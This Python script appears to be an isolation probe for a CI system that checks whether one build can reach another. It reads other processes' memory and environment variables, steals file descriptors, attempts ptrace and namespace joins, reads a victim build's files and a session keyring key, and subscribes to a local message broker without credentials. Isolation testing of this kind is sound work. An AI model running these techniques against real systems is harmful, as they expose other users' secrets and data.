"""Look into processes, and read files, that are not this build's."""

from __future__ import annotations

import ctypes
import os
import re
import socket
from pathlib import Path

from probe import TARGETS, attempt, bring, call, libc, say, take

_PIDFD_OPEN, _PIDFD_GETFD = 434, 438
_ATTACH, _SEIZE = 16, 0x4206
_PIECE = 64 * 1024
_MOST = 64 * 1024 * 1024


class _Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def _areas(pid: int) -> list[tuple[int, int]]:
    """What can be read of a process's memory."""
    lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
    found = [re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line) for line in lines if "[v" not in line]
    return [(int(one[1], 16), int(one[2], 16)) for one in found if one]


def _memory(pid: int) -> int:
    areas = _areas(pid) if attempt(f"areas-{pid}", lambda: len(_areas(pid))) else [(0x400000, 0x410000)]
    size = 0
    with Path(f"/proc/{pid}/mem").open("rb", buffering=0) as file:
        for start, end in areas:
            file.seek(start)
            size += bring(file.read(min(end - start, _MOST)))
    return size


def _memory_call(pid: int) -> int:
    try:
        areas = _areas(pid)
    except OSError:
        areas = [(0x400000, 0x410000)]
    buffer = ctypes.create_string_buffer(_PIECE)
    size = 0
    for start, end in areas:
        for place in range(start, min(end, start + _MOST), _PIECE):
            length = min(_PIECE, end - place)
            mine, theirs = _Part(ctypes.addressof(buffer), length), _Part(place, length)
            parts = ctypes.byref(mine), ctypes.c_ulong(1), ctypes.byref(theirs), ctypes.c_ulong(1)
            size += bring(buffer.raw[: call("process_vm_readv", pid, *parts, ctypes.c_ulong(0))])
    return size


def _descriptors(pid: int) -> int:
    found = os.listdir(f"/proc/{pid}/fd")
    for name in found:
        target = os.readlink(f"/proc/{pid}/fd/{name}")
        bring(target)
        if target.startswith("/") and not target.startswith("/dev/"):
            attempt(f"fd-{pid}-{name}", lambda name=name: take(f"/proc/{pid}/fd/{name}"))
    return len(found)


def _steal_descriptor(pid: int) -> str:
    own = call("syscall", _PIDFD_OPEN, pid, 0)
    return os.readlink(f"/proc/self/fd/{call('syscall', _PIDFD_GETFD, own, 3, 0)}")


def _trace(request: int, pid: int) -> int:
    result = call("ptrace", request, pid, None, None)
    libc.ptrace(17, pid, None, None)
    return result


def _place(pid: int) -> int:
    namespace = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    return call("setns", namespace, 0)


def processes() -> None:
    """Everything that shows a process's inside."""
    for role, pid in TARGETS["processes"].items():
        attempt(f"{role}:environ", lambda pid=pid: take(f"/proc/{pid}/environ"))
        attempt(f"{role}:maps", lambda pid=pid: take(f"/proc/{pid}/maps"))
        attempt(f"{role}:mem", lambda pid=pid: _memory(pid))
        attempt(f"{role}:process_vm_readv", lambda pid=pid: _memory_call(pid))
        attempt(f"{role}:fd", lambda pid=pid: _descriptors(pid))
        attempt(f"{role}:pidfd_getfd", lambda pid=pid: _steal_descriptor(pid))
        attempt(f"{role}:task", lambda pid=pid: take(f"/proc/{pid}/task/{pid}/environ"))
        for link in ("cwd", "root", "exe"):
            attempt(f"{role}:{link}", lambda pid=pid, link=link: bring(os.readlink(f"/proc/{pid}/{link}")))
        attempt(f"{role}:attach", lambda pid=pid: _trace(_ATTACH, pid))
        attempt(f"{role}:seize", lambda pid=pid: _trace(_SEIZE, pid))
        attempt(f"{role}:setns", lambda pid=pid: _place(pid))


def _every(path: str) -> int:
    """Bring home a file, or all below a directory."""
    if not os.path.isdir(path):
        return take(path)
    return sum(_every(os.path.join(path, name)) for name in os.listdir(path))


def files() -> None:
    """Each file by its name, through a link, by a hard link, and through another process's root."""
    for name, path in TARGETS["files"].items():
        attempt(f"file:{name}", lambda path=path: _every(path))
        os.symlink(path, f"link-{name}")
        attempt(f"symlink:{name}", lambda name=name: _every(f"link-{name}"))
        attempt(f"hardlink:{name}", lambda name=name, path=path: (os.link(path, f"hard-{name}"), take(f"hard-{name}")))
    for role, pid in TARGETS["processes"].items():
        for name, path in TARGETS["files"].items():
            attempt(f"root:{role}:{name}", lambda pid=pid, path=path: _every(f"/proc/{pid}/root{path}"))


def victim() -> None:
    """All of another build, which is running."""
    attempt("victim:list", lambda: bring(str(os.listdir(TARGETS["victim"]["root"]))))
    for path in TARGETS["victim"]["files"]:
        attempt(f"victim:{os.path.basename(path)}", lambda path=path: take(path))
    pid = TARGETS["victim"]["pid"]
    attempt("victim:environ", lambda: take(f"/proc/{pid}/environ"))
    attempt("victim:cwd", lambda: _every(f"/proc/{pid}/cwd"))
    attempt("victim:mem", lambda: _memory(pid))


def own() -> None:
    """What a build is given without asking."""
    attempt("own:environ", lambda: take("/proc/self/environ"))
    attempt("own:parent", lambda: take(f"/proc/{os.getppid()}/environ"))
    links = [f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")]
    there = [os.readlink(link) for link in links if os.path.lexists(link)]  # the one that listed them is gone
    say("own:fd", " ".join(sorted({link.partition(":")[0] for link in there})))
    attempt(
        "own:arguments", lambda: sum(take(f"/proc/{pid}/cmdline") for pid in os.listdir("/proc") if pid.isdecimal())
    )


def session_key() -> int:
    """A key of the session that the worker was started in."""
    request, control = {"x86_64": (249, 250)}.get(os.uname().machine, (218, 219))
    key = call("syscall", request, b"user", b"pikoci-attack", None, 0)
    buffer = ctypes.create_string_buffer(100)
    call("syscall", control, 11, key, buffer, ctypes.c_long(100))
    return bring(buffer.value)


def queue() -> str:
    """The broker, whose address is no secret, without its password."""
    with socket.create_connection(("127.0.0.1", TARGETS["queue"]), timeout=4) as broker:
        broker.recv(4096)
        broker.sendall(b'CONNECT {"verbose":true}\r\nSUB > 1\r\nPING\r\n')
        answer = broker.recv(4096)
    bring(answer)
    if b"Authorization" in answer:
        raise PermissionError(1, "refused")
    return answer.decode(errors="replace")


attempt("queue", queue)
attempt("session-key", session_key)
own()
files()
victim()
processes()
